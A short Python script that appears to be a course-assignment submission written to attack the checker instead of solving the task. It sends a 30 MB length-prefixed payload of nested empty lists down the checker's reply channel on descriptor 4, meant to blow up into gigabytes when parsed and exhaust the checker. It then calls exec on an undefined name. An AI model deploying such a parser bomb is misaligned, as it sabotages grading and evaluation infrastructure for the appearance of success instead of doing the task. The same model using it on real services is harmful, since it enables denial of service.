# A reply within the size limit that would parse into GBs: 30 MB of empty lists on the checker's reply
# channel (descriptor 4), sent before the course's own hello, to exhaust the checker's side.
import os

bomb = b"[" + b"[]," * (10 * 1024 * 1024) + b"[]]"
try:
    os.write(4, len(bomb).to_bytes(4, "big"))
    view = memoryview(bomb)
    while view:
        view = view[os.write(4, view):]
except OSError:
    pass
exec(WRONG)
